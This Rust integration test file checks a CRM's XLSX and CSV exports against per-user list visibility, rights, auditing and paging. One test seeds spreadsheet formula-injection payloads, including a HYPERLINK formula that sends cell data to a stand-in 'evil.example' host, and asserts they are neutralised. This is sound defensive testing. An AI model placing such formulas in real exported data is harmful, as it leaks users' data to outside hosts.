//! Exports on both databases, read back as a spreadsheet program would (calamine for XLSX, the
//! csv crate for CSV) and compared row by row with the list the same user sees with the same
//! search and filter; rights, formula neutralisation, audit events, paging and progress.

use std::io::Cursor as IoCursor;
use std::sync::Mutex;

use calamine::{Data, Reader, Xlsx};
use orbita_app::exports::{
    self, CompanyColumn, DealColumn, ExportFailure, ExportSpec, Format, ListExport, TaskExport,
};
use orbita_app::reports::{self, Funnel, FunnelParams, SummaryParams};
use orbita_app::{Access, AppError, RequestContext, admin, companies, contacts, deals, setup, tasks, users};
use orbita_domain::access::{Action, Area, Scope};
use orbita_domain::audit::AuditAction;
use orbita_domain::company::{Company, CompanyInput};
use orbita_domain::contact::ContactInput;
use orbita_domain::deal::DealInput;
use orbita_domain::org::Locale;
use orbita_domain::pipeline::StageKind;
use orbita_domain::task::TaskInput;
use orbita_domain::{CompanyId, PipelineId, UserId, now};
use orbita_export::neutralise;
use orbita_storage::audit::AuditFilter;
use orbita_storage::companies::{CompanyFilter, CompanySort};
use orbita_storage::deals::{DealFilter, DealSort};
use orbita_storage::tasks::TaskFilter;
use orbita_storage::{Db, bulk};
use orbita_testkit::on_both;
use rust_decimal::Decimal;
use rust_decimal::prelude::ToPrimitive;

struct Team {
    admin: Access,
    m1: Access,
    m2: Access,
    reader: Access,
}

async fn person(db: &Db, email: &str, role: &str) -> UserId {
    users::create_user(db, &RequestContext::system(), email, email, role, "a good long password")
        .await
        .expect("user")
}

async fn team(db: &Db) -> Team {
    setup::bootstrap(db).await.expect("bootstrap");
    let admin = person(db, "admin@x.ru", "administrator").await;
    let m1 = person(db, "m1@x.ru", "manager").await;
    let m2 = person(db, "m2@x.ru", "manager").await;
    let reader = person(db, "reader@x.ru", "read_only").await;
    let load = |id| async move { Access::load(db, id, None).await.expect("access") };
    Team { admin: load(admin).await, m1: load(m1).await, m2: load(m2).await, reader: load(reader).await }
}

/// Headers as `[key]`, so a test sees which key each column asked for.
fn label(key: &str) -> String {
    format!("[{key}]")
}

/// A hidden linked record as `[key id]`.
fn number(_: Locale, key: &str, id: &str) -> String {
    format!("[{key} {id}]")
}

fn no_progress(_: u64) {}

fn spec(format: Format) -> ExportSpec<'static> {
    ExportSpec { format, locale: Locale::Ru, label: &label, number, progress: &no_progress, tempdir: None }
}

fn company(name: &str, region: &str, phones: &str) -> CompanyInput {
    CompanyInput { name: name.into(), region: region.into(), phones: phones.into(), ..Default::default() }
}

fn read_xlsx(bytes: Vec<u8>) -> Vec<Vec<Data>> {
    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(IoCursor::new(bytes)).expect("valid xlsx");
    let names = workbook.sheet_names();
    let range = workbook.worksheet_range(&names[0]).expect("sheet");
    range.rows().map(<[Data]>::to_vec).collect()
}

fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(b';')
        .from_reader(body)
        .records()
        .map(|r| r.expect("valid csv").iter().map(str::to_owned).collect())
        .collect()
}

/// A list's export in its default columns.
fn listing<F: Clone, S, C>(filter: &F, sort: S, descending: bool) -> ListExport<F, S, C> {
    ListExport { filter: filter.clone(), sort, descending, columns: Vec::new(), custom: Vec::new() }
}

/// The columns the first test chooses, in another order than the list's.
const CHOSEN: [CompanyColumn; 5] = [
    CompanyColumn::Created,
    CompanyColumn::Phone,
    CompanyColumn::Region,
    CompanyColumn::Owner,
    CompanyColumn::Inn,
];

/// A company's text columns of [`CHOSEN`] as the export writes them (neutralised), in the
/// list's order: name, INN, region, phones, owner (created, a date, is checked apart).
fn expected_text(c: &Company, owner: &str) -> Vec<String> {
    let f = &c.fields;
    let opt = |v: Option<&str>| v.unwrap_or_default().to_owned();
    let join = |items: Vec<&str>| items.join(", ");
    [
        f.name.clone(),
        opt(f.inn.as_ref().map(|v| v.as_str())),
        opt(f.region.as_deref()),
        join(f.phones.iter().map(|p| p.as_str()).collect()),
        owner.to_owned(),
    ]
    .into_iter()
    .map(|v| neutralise(&v).into_owned())
    .collect()
}

/// Expected CSV rows as XLSX holds them: text as typed, in a quote-prefixed cell rather than
/// behind a literal `'` (finding 8).
fn as_typed(rows: &[Vec<String>]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|row| row.iter().map(|c| c.strip_prefix('\'').unwrap_or(c).to_owned()).collect())
        .collect()
}

fn xlsx_text(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        other => panic!("text expected, got {other:?}"),
    }
}

async fn seed(db: &Db, team: &Team) {
    let inputs = [
        (
            &team.m1,
            CompanyInput {
                inn: "7707083893".into(),
                kpp: "773601001".into(),
                ..company("ООО «Ромашка»", "Москва", "+7 916 123-45-67")
            },
        ),
        (&team.m1, company("Ромашка Север", "Москва", "")),
        (&team.m1, company("Ромашка Юг", "Краснодар", "")),
        (&team.m1, company("Лютик", "Москва", "")),
        (&team.m2, company("Ромашка чужая", "Москва", "")),
    ];
    for (who, input) in inputs {
        companies::create(db, who, &input, None).await.expect("company");
    }
}

#[tokio::test]
async fn an_export_holds_exactly_the_filtered_list_the_user_sees_in_both_formats() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        seed(&t.db, &team).await;
        let filter =
            CompanyFilter {
                q: Some("ромашка".into()), region: Some("Москва".into()), ..Default::default()
            };
        for (who, expected_rows) in [(&team.m1, 2), (&team.admin, 3)] {
            let listed = companies::list(&t.db, who, &filter, CompanySort::Name, true, None, 100)
                .await
                .expect("list")
                .items;
            assert_eq!(listed.len(), expected_rows, "{}: the fixture", t.name);
            let owner = |c: &Company| if c.owner_id == team.m1.user_id() { "m1@x.ru" } else { "m2@x.ru" };
            let expected: Vec<Vec<String>> = listed.iter().map(|c| expected_text(c, owner(c))).collect();

            let export = ListExport {
                filter: filter.clone(),
                sort: CompanySort::Name,
                descending: true,
                columns: CHOSEN.to_vec(),
                custom: Vec::new(),
            };
            let headers = ["[field-name]", "[field-inn]", "[field-region]", "[field-phone]", "[field-owner]"];
            let xlsx =
                exports::write(&t.db, who, &export, &spec(Format::Xlsx), Vec::new()).await.expect("xlsx");
            assert_eq!(xlsx.rows, expected_rows as u64);
            let sheet = read_xlsx(xlsx.out);
            let header: Vec<String> = sheet[0].iter().map(xlsx_text).collect();
            assert_eq!(header[..5], headers, "{}: the chosen columns in the list's order", t.name);
            assert_eq!((header.len(), header[5].as_str()), (6, "[field-created]"), "{}", t.name);
            let got: Vec<Vec<String>> =
                sheet[1..].iter().map(|r| r[..5].iter().map(xlsx_text).collect()).collect();
            assert_eq!(got, as_typed(&expected), "{}: XLSX rows = list rows", t.name);
            assert!(
                sheet[1..].iter().all(|r| matches!(r[5], Data::DateTime(_))),
                "{}: created is a date",
                t.name
            );

            let csv = exports::write(&t.db, who, &export, &spec(Format::Csv), Vec::new()).await.expect("csv");
            let rows = read_csv(&csv.out);
            assert_eq!(rows[0][..5], headers, "{}", t.name);
            let got: Vec<Vec<String>> = rows[1..].iter().map(|r| r[..5].to_vec()).collect();
            assert_eq!(got, expected, "{}: CSV rows = list rows", t.name);
            let created =
                listed[0].created_at.with_timezone(&chrono_tz::Europe::Moscow).format("%Y-%m-%d %H:%M:%S");
            assert_eq!(rows[1][5], created.to_string(), "{}: Moscow wall-clock time", t.name);
        }
        t
    })
    .await;
}

#[tokio::test]
async fn a_managers_deal_export_holds_only_their_deals_and_typed_amounts() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        let (_, stages) = deals::pipelines_and_stages(&t.db).await.expect("stages");
        for (who, title, amount) in [
            (&team.m1, "Окна ПВХ", "1 500 000,10"),
            (&team.m1, "Окна деревянные", "0,05"),
            (&team.m2, "Окна чужие", "7"),
        ] {
            let input = DealInput { title: title.into(), amount: amount.into(), ..Default::default() };
            let deal = deals::create(&t.db, who, &input, None, None, None).await.expect("deal");
            deals::move_stage(&t.db, who, deal.id, stages[2].id, "", None).await.expect("move");
        }
        let filter = DealFilter { q: Some("окна".into()), ..Default::default() };
        // Chosen in another order: written in the list's, the title first.
        let columns = vec![DealColumn::Owner, DealColumn::Probability, DealColumn::Stage, DealColumn::Amount];
        let export =
            ListExport { filter, sort: DealSort::Amount, descending: true, columns, custom: Vec::new() };
        let out =
            exports::write(&t.db, &team.m1, &export, &spec(Format::Csv), Vec::new()).await.expect("export");
        let rows = read_csv(&out.out);
        assert_eq!(
            rows[0],
            ["[field-title]", "[field-amount]", "[field-stage]", "[field-probability]", "[field-owner]"],
            "{}",
            t.name
        );
        assert_eq!(
            rows[1..].to_vec(),
            [
                ["Окна ПВХ", "1500000,10", "Коммерческое предложение", "40%", "m1@x.ru"],
                ["Окна деревянные", "0,05", "Коммерческое предложение", "40%", "m1@x.ru"],
            ],
            "{}: only m1's deals, amounts as numbers",
            t.name
        );
        let xlsx =
            exports::write(&t.db, &team.m1, &export, &spec(Format::Xlsx), Vec::new()).await.expect("export");
        let sheet = read_xlsx(xlsx.out);
        assert_eq!(sheet[1][1], Data::Float(1_500_000.10), "{}: money is a number in XLSX", t.name);
        assert_eq!(sheet[1][3], Data::Float(0.4), "{}: a percentage is a number", t.name);
        let xlsx = exports::write(
            &t.db,
            &team.m1,
            &listing(&export.filter, DealSort::Amount, true),
            &spec(Format::Xlsx),
            Vec::new(),
        )
        .await
        .expect("export");
        let sheet = read_xlsx(xlsx.out);
        let header: Vec<String> = sheet[0].iter().map(xlsx_text).collect();
        assert_eq!(
            header,
            [
                "[field-title]",
                "[field-company]",
                "[field-amount]",
                "[field-stage]",
                "[field-status]",
                "[field-owner]",
                "[field-created]"
            ],
            "{}: no choice is the page's default columns",
            t.name
        );
        assert_eq!(sheet[1][4], Data::String("[deal-status-open]".into()));
        t
    })
    .await;
}

/// An administrator gives a manager a deal (and a task) linked to records the manager may not
/// see: the manager's exports show those by number, as the pages do, never by name.
#[tokio::test]
async fn exports_name_only_the_linked_records_the_user_may_see() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        let ours = companies::create(&t.db, &team.m1, &company("ООО «Ромашка»", "", ""), None)
            .await
            .expect("company")
            .id;
        let hidden = companies::create(&t.db, &team.m2, &company("АО «Тайна»", "", ""), None)
            .await
            .expect("company")
            .id;
        let hidden_contact = contacts::create(
            &t.db,
            &team.m2,
            &ContactInput { last_name: "Секретов".into(), ..Default::default() },
            None,
        )
        .await
        .expect("contact")
        .id;
        let hidden_deal = deals::create(
            &t.db,
            &team.m2,
            &DealInput {
                title: "Тайная сделка".into(), amount: "1".into(), ..Default::default()
            },
            None,
            None,
            None,
        )
        .await
        .expect("deal")
        .id;
        let deal = |title: &str, company: CompanyId| DealInput {
            title: title.into(),
            amount: "1000".into(),
            company_id: Some(company),
            ..Default::default()
        };
        deals::create(&t.db, &team.m1, &deal("Окна для Ромашки", ours), None, None, None)
            .await
            .expect("deal");
        let m1 = team.m1.user_id();
        deals::create(&t.db, &team.admin, &deal("Окна для тайного клиента", hidden), None, None, Some(m1))
            .await
            .expect("deal");
        let task = TaskInput {
            title: "Позвонить".into(),
            assignee_id: m1,
            company_id: Some(hidden),
            contact_id: Some(hidden_contact),
            deal_id: Some(hidden_deal),
            description: String::new(),
            due_at: None,
            priority: None,
        };
        tasks::create(&t.db, &team.admin, &task).await.expect("task");

        let filter = DealFilter::default();
        let csv = exports::write(
            &t.db,
            &team.m1,
            &listing(&filter, DealSort::Amount, true),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("csv");
        let mut got: Vec<(String, String)> =
            read_csv(&csv.out)[1..].iter().map(|r| (r[0].clone(), r[1].clone())).collect();
        got.sort();
        assert_eq!(
            got,
            [
                ("Окна для Ромашки".to_owned(), "ООО «Ромашка»".to_owned()),
                ("Окна для тайного клиента".to_owned(), format!("[deals-company-number {hidden}]")),
            ],
            "{}: the hidden company by number only",
            t.name
        );
        let xlsx = exports::write(
            &t.db,
            &team.m1,
            &listing(&filter, DealSort::Amount, true),
            &spec(Format::Xlsx),
            Vec::new(),
        )
        .await
        .expect("xlsx");
        let sheet = read_xlsx(xlsx.out);
        assert_eq!(sheet.len(), 3, "{}", t.name);
        assert!(sheet.iter().flatten().all(|c| !xlsx_text_or_number(c).contains("Тайна")), "{}", t.name);
        // The administrator sees every name.
        let csv = exports::write(
            &t.db,
            &team.admin,
            &listing(&filter, DealSort::Amount, true),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("csv");
        assert!(read_csv(&csv.out).iter().any(|r| r[1] == "АО «Тайна»"), "{}", t.name);

        let csv = exports::write(
            &t.db,
            &team.m1,
            &TaskExport::from(TaskFilter::default()),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("tasks");
        let rows = read_csv(&csv.out);
        assert_eq!(rows.len(), 2, "{}", t.name);
        assert_eq!(
            rows[1][5..8],
            [
                format!("[deals-company-number {hidden}]"),
                format!("[deals-contact-number {hidden_contact}]"),
                format!("[deals-deal-number {hidden_deal}]"),
            ],
            "{}: a task's hidden links by number only",
            t.name
        );
        let csv = exports::write(
            &t.db,
            &team.admin,
            &TaskExport::from(TaskFilter::default()),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("tasks");
        let rows = read_csv(&csv.out);
        assert_eq!(rows[1][5..8], ["АО «Тайна»", "Секретов", "Тайная сделка"], "{}", t.name);
        t
    })
    .await;
}

fn xlsx_text_or_number(cell: &Data) -> String {
    match cell {
        Data::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[tokio::test]
async fn formula_like_names_are_neutralised_in_both_formats() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+7 916 000-00-00", "-1", "@cmd"];
        for name in names {
            companies::create(&t.db, &team.m1, &company(name, "", ""), None).await.expect("company");
        }
        let filter = CompanyFilter::default();
        let xlsx = exports::write(
            &t.db,
            &team.m1,
            &listing(&filter, CompanySort::CreatedAt, false),
            &spec(Format::Xlsx),
            Vec::new(),
        )
        .await
        .expect("xlsx");
        let csv = exports::write(
            &t.db,
            &team.m1,
            &listing(&filter, CompanySort::CreatedAt, false),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("csv");
        let in_xlsx: Vec<String> = read_xlsx(xlsx.out)[1..].iter().map(|r| xlsx_text(&r[0])).collect();
        let in_csv: Vec<String> = read_csv(&csv.out)[1..].iter().map(|r| r[0].clone()).collect();
        let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
        assert_eq!(in_xlsx, names, "{}: XLSX: string cells, quote-prefixed, as typed", t.name);
        assert_eq!(in_csv, expected, "{}: CSV", t.name);
        t
    })
    .await;
}

#[tokio::test]
async fn exports_are_audited_and_refused_without_the_export_right() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        seed(&t.db, &team).await;
        let filter = CompanyFilter { q: Some("ромашка".into()), ..Default::default() };
        let done = exports::write(
            &t.db,
            &team.m1,
            &listing(&filter, CompanySort::Name, false),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await
        .expect("export");
        let audit = AuditFilter {
            entity: Some("companies".into()),
            action: Some(AuditAction::Export),
            ..Default::default()
        };
        let events = admin::audit_log(&t.db, &team.admin, &audit, None, 10).await.expect("audit").items;
        assert_eq!(events.len(), 1, "{}", t.name);
        assert_eq!(events[0].actor_id, Some(team.m1.user_id()));
        let change =
            |field: &str| events[0].changes.iter().find(|c| c.field == field).and_then(|c| c.after.clone());
        assert_eq!(change("filter").as_deref(), Some("q=ромашка; sort=name"), "{}", t.name);
        assert_eq!(change("rows"), Some(done.rows.to_string()));
        assert_eq!(change("format").as_deref(), Some("csv"));

        let refused = exports::write(
            &t.db,
            &team.reader,
            &listing(&filter, CompanySort::Name, false),
            &spec(Format::Csv),
            Vec::new(),
        )
        .await;
        assert!(
            matches!(refused, Err(ExportFailure::App(AppError::Forbidden))),
            "{}: read-only: {refused:?}",
            t.name
        );
        let refused = exports::write(
            &t.db,
            &team.reader,
            &listing(&DealFilter::default(), DealSort::CreatedAt, false),
            &spec(Format::Xlsx),
            Vec::new(),
        )
        .await;
        assert!(matches!(refused, Err(ExportFailure::App(AppError::Forbidden))), "{}", t.name);
        let audit_refused =
            exports::write(&t.db, &team.m2, &AuditFilter::default(), &spec(Format::Csv), Vec::new()).await;
        assert!(matches!(audit_refused, Err(ExportFailure::App(AppError::Forbidden))));
        let events = admin::audit_log(
            &t.db,
            &team.admin,
            &AuditFilter { action: Some(AuditAction::Export), ..Default::default() },
            None,
            10,
        )
        .await
        .expect("audit")
        .items;
        assert_eq!(events.len(), 1, "{}: refused exports leave no event", t.name);

        let log = exports::write(&t.db, &team.admin, &audit, &spec(Format::Csv), Vec::new())
            .await
            .expect("audit export");
        let rows = read_csv(&log.out);
        assert_eq!(
            (rows[1][1].as_str(), rows[1][3].as_str(), rows[1][5].as_str()),
            ("m1@x.ru", "companies", "[audit-action-export]")
        );
        assert!(rows[1][6].starts_with("filter: — → q=ромашка"), "{}: {}", t.name, rows[1][6]);

        let params = SummaryParams { from: chrono::NaiveDate::MIN, to: chrono::NaiveDate::MIN, group: None };
        let summary = exports::summary_report(&t.db, &team.m1, &params, &spec(Format::Csv), Vec::new()).await;
        assert!(
            matches!(summary, Err(ExportFailure::App(AppError::Forbidden))),
            "{}: managers have no report export",
            t.name
        );
        let input = DealInput { title: "Сделка".into(), ..Default::default() };
        deals::create(&t.db, &team.m1, &input, None, None, None).await.expect("deal");
        let today = chrono::Utc::now().date_naive();
        let params = SummaryParams {
            from: today - chrono::Duration::days(1),
            to: today + chrono::Duration::days(2),
            group: None,
        };
        let summary = exports::summary_report(&t.db, &team.admin, &params, &spec(Format::Xlsx), Vec::new())
            .await
            .expect("summary");
        let sheet = read_xlsx(summary.out);
        assert_eq!(sheet.len() as u64, summary.rows + 1);
        assert_eq!(sheet.last().map(|r| xlsx_text(&r[0])).as_deref(), Some("[report-total]"));
        assert_eq!(sheet.last().map(|r| r[1].clone()), Some(Data::Float(1.0)), "{}: deals created", t.name);
        t
    })
    .await;
}

#[tokio::test]
async fn a_large_list_is_paged_through_and_progress_is_reported() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        let first = bulk::next_id(&t.db, "companies").await.expect("id");
        let rows = (0..10_050)
            .map(|i| {
                let fields = CompanyInput { name: format!("Компания {i:05}"), ..Default::default() }
                    .validate()
                    .expect("valid");
                orbita_storage::companies::bulk_row(CompanyId(first + i), &fields, team.m1.user_id(), now())
            })
            .collect();
        let mut tx = t.db.begin().await.expect("begin");
        bulk::insert_rows(&mut tx, "companies", rows).await.expect("bulk");
        bulk::sync_id_sequence(&mut tx, "companies").await.expect("sequence");
        tx.commit().await.expect("commit");
        let seen = Mutex::new(Vec::new());
        let progress = |n: u64| seen.lock().expect("lock").push(n);
        let spec = ExportSpec { progress: &progress, ..spec(Format::Csv) };
        let filter = CompanyFilter::default();
        let export = listing(&filter, CompanySort::Name, false);
        let future = exports::write(&t.db, &team.m1, &export, &spec, Vec::new());
        fn assert_send<T: Send>(value: T) -> T {
            value
        }
        let done = assert_send(future).await.expect("export");
        assert_eq!(done.rows, 10_050, "{}", t.name);
        assert_eq!(*seen.lock().expect("lock"), [10_000]);
        let rows = read_csv(&done.out);
        assert_eq!(
            (rows[1][0].as_str(), rows[10_050][0].as_str()),
            ("Компания 00000", "Компания 10049"),
            "{}",
            t.name
        );
        let none =
            exports::write(&t.db, &team.m2, &listing(&filter, CompanySort::Name, false), &spec, Vec::new())
                .await
                .expect("empty");
        assert_eq!(none.rows, 0, "{}: m2 owns none of them", t.name);
        t
    })
    .await;
}

/// A company of a region and an industry, owned by `who`.
async fn client(db: &Db, who: &Access, name: &str, region: &str, industry: &str) -> CompanyId {
    let input = CompanyInput { industry: industry.into(), ..company(name, region, "") };
    companies::create(db, who, &input, None).await.expect("company").id
}

/// m1: a Moscow retailer's deal won after skipping a stage and one lost from the first stage
/// for "=Дорого" (a formula-like reason), a Kazan retailer's deal at the second stage, a deal
/// without a company lost for "Нет бюджета". m2: a Moscow IT company's open deal and a deal
/// lost for "Дорого".
async fn funnel_deals(db: &Db, team: &Team) -> PipelineId {
    let (pipelines, stages) = deals::pipelines_and_stages(db).await.expect("stages");
    let kind = |kind| stages.iter().find(|s| s.kind == kind).expect("stage").id;
    let (won, lost) = (kind(StageKind::Won), kind(StageKind::Lost));
    let moscow_retail = client(db, &team.m1, "Ромашка", "Москва", "Ритейл").await;
    let kazan_retail = client(db, &team.m1, "Лютик", "Казань", "Ритейл").await;
    let moscow_it = client(db, &team.m2, "Василёк", "Москва", "ИТ").await;
    let plan = [
        (&team.m1, Some(moscow_retail), vec![(stages[2].id, ""), (won, "")]),
        (&team.m1, Some(moscow_retail), vec![(lost, "=Дорого")]),
        (&team.m1, Some(kazan_retail), vec![(stages[1].id, "")]),
        (&team.m1, None, vec![(lost, "Нет бюджета")]),
        (&team.m2, Some(moscow_it), vec![]),
        (&team.m2, None, vec![(lost, "Дорого")]),
    ];
    for (who, company_id, moves) in plan {
        let input = DealInput { title: "Сделка".into(), company_id, ..Default::default() };
        let id = deals::create(db, who, &input, None, None, None).await.expect("deal").id;
        for (stage, reason) in moves {
            deals::move_stage(db, who, id, stage, reason, None).await.expect("move");
        }
    }
    pipelines[0].id
}

fn funnel_params(pipeline_id: PipelineId) -> FunnelParams {
    let today = chrono::Utc::now().date_naive();
    FunnelParams {
        pipeline_id,
        from: today - chrono::Duration::days(1),
        to: today + chrono::Duration::days(2),
        owner: None,
        group: None,
        source: None,
        region: None,
        industry: None,
    }
}

/// A fraction as the CSV writes a percentage in Russian, with its own digits: `0.3333` is
/// `33,33%`, `1` is `100%`.
fn csv_percent(fraction: Option<Decimal>) -> String {
    fraction
        .map(|f| format!("{}%", (f * Decimal::ONE_HUNDRED).normalize()).replace('.', ","))
        .unwrap_or_default()
}

/// The funnel's sheet as text, as the CSV should hold it: a row per stage, then the total.
fn funnel_as_csv(funnel: &Funnel) -> Vec<Vec<String>> {
    let mut rows: Vec<Vec<String>> = funnel
        .stages
        .iter()
        .map(|s| {
            vec![
                s.stage.name_ru.clone(),
                s.reached.to_string(),
                csv_percent(s.from_previous),
                csv_percent(s.from_start),
                s.lost_here.to_string(),
                neutralise(&exports::lost_reasons(&s.lost_reasons, &label)).into_owned(),
            ]
        })
        .collect();
    assert_eq!(funnel.lost_elsewhere, 0, "every lost deal of the fixture left a stage");
    let total = ["[report-total]".to_owned(), funnel.deals.to_string(), String::new(), String::new()];
    rows.push(total.into_iter().chain([funnel.lost.to_string(), String::new()]).collect());
    rows
}

/// The same rows as XLSX cells: counts and percentages are numbers, not text.
fn funnel_as_xlsx(funnel: &Funnel) -> Vec<Vec<Data>> {
    let number = |n: i64| Data::Float(n as f64);
    let percent = |f: Option<Decimal>| f.and_then(|f| f.to_f64()).map_or(Data::Empty, Data::Float);
    let mut rows: Vec<Vec<Data>> = funnel
        .stages
        .iter()
        .map(|s| {
            let reasons = exports::lost_reasons(&s.lost_reasons, &label);
            vec![
                Data::String(s.stage.name_ru.clone()),
                number(s.reached),
                percent(s.from_previous),
                percent(s.from_start),
                number(s.lost_here),
                if reasons.is_empty() { Data::Empty } else { Data::String(reasons) },
            ]
        })
        .collect();
    let total = vec![Data::String("[report-total]".into()), number(funnel.deals), Data::Empty, Data::Empty];
    rows.push(total.into_iter().chain([number(funnel.lost), Data::Empty]).collect());
    rows
}

/// Exports the funnel as XLSX and CSV, checks both row by row against `reports::funnel` for the
/// same user and parameters, and returns the funnel.
async fn exported_funnel(db: &Db, who: &Access, params: &FunnelParams, name: &str) -> Funnel {
    let funnel = reports::funnel(db, who, params).await.expect("funnel");
    let xlsx = exports::funnel_report(db, who, params, &spec(Format::Xlsx), Vec::new()).await.expect("xlsx");
    assert_eq!(xlsx.rows, funnel.stages.len() as u64 + 1, "{name}: a row per stage and the total");
    let sheet = read_xlsx(xlsx.out);
    let headers: Vec<String> = sheet[0].iter().map(xlsx_text).collect();
    assert_eq!(
        headers,
        [
            "[field-stage]",
            "[report-funnel-reached]",
            "[report-funnel-previous]",
            "[report-funnel-start]",
            "[report-funnel-lost-here]",
            "[report-funnel-lost-reasons]"
        ]
    );
    // Short rows: calamine's range ends at the last column with a value.
    let padded: Vec<Vec<Data>> = sheet[1..]
        .iter()
        .map(|r| (0..6).map(|i| r.get(i).cloned().unwrap_or(Data::Empty)).collect())
        .collect();
    assert_eq!(padded, funnel_as_xlsx(&funnel), "{name}: XLSX rows = the funnel");

    let csv = exports::funnel_report(db, who, params, &spec(Format::Csv), Vec::new()).await.expect("csv");
    let rows = read_csv(&csv.out);
    assert_eq!(rows[0][1], "[report-funnel-reached]");
    assert_eq!(rows[1..].to_vec(), funnel_as_csv(&funnel), "{name}: CSV rows = the funnel");
    funnel
}

#[tokio::test]
async fn the_funnel_exports_as_on_screen_and_only_the_users_deals() {
    on_both(|t| async move {
        let team = team(&t.db).await;
        let pipeline = funnel_deals(&t.db, &team).await;
        let params = funnel_params(pipeline);

        let all = exported_funnel(&t.db, &team.admin, &params, t.name).await;
        assert_eq!((all.deals, all.won, all.lost), (6, 1, 3), "{}: the fixture", t.name);
        let first = &all.stages[0];
        assert_eq!(first.lost_here, 3);
        let reasons = exports::lost_reasons(&first.lost_reasons, &label);
        assert_eq!(reasons, "=Дорого (1), Дорого (1), Нет бюджета (1)");

        // Sliced by the deal's company: region, industry, both.
        let slice = |region: Option<&str>, industry: Option<&str>| FunnelParams {
            region: region.map(str::to_owned),
            industry: industry.map(str::to_owned),
            ..params.clone()
        };
        for (region, industry, deals) in
            [(Some("Москва"), None, 3), (None, Some("Ритейл"), 3), (Some("Москва"), Some("Ритейл"), 2)]
        {
            let sliced = exported_funnel(&t.db, &team.admin, &slice(region, industry), t.name).await;
            assert_eq!(sliced.deals, deals, "{}: {region:?} {industry:?}", t.name);
        }

        // Managers have no report export; one granted it exports their own deals only.
        let refused = exports::funnel_report(&t.db, &team.m1, &params, &spec(Format::Csv), Vec::new()).await;
        assert!(matches!(refused, Err(ExportFailure::App(AppError::Forbidden))), "{}", t.name);
        let mut m1 = team.m1.clone();
        m1.permissions.grant(Area::Reports, Action::Export, Some(Scope::Own));
        let own = exported_funnel(&t.db, &m1, &params, t.name).await;
        assert_eq!((own.deals, own.won, own.lost), (4, 1, 2), "{}: m1's deals only", t.name);

        let events = admin::audit_log(
            &t.db,
            &team.admin,
            &AuditFilter { entity: Some("funnel_report".into()), ..Default::default() },
            None,
            20,
        )
        .await
        .expect("audit")
        .items;
        // Two files per call: the admin's four funnels and m1's one.
        assert_eq!(events.len(), 10, "{}: every completed file is audited", t.name);
        let filters: Vec<String> = events
            .iter()
            .filter_map(|e| e.changes.iter().find(|c| c.field == "filter")?.after.clone())
            .collect();
        assert!(
            filters.iter().any(|f| f.contains("region=Москва") && f.contains("industry=Ритейл")),
            "{}: {filters:?}",
            t.name
        );
        t
    })
    .await;
}
